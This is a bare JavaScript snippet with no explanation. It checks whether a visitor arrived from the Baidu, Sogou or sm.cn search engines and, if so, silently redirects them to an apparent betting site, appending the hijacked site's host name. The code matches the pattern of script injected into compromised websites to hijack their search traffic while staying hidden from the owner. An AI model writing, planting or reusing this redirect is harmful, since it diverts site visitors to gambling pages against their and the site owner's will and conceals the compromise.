var _ref = document.referrer.toLowerCase();
if (_ref.indexOf("sogou") != -1 || _ref.indexOf("baidu") != -1 || _ref.indexOf("sm.cn") != -1) {
    location.replace("http://www.tyc-bet.test/?u=" + encodeURIComponent(location.host));
}
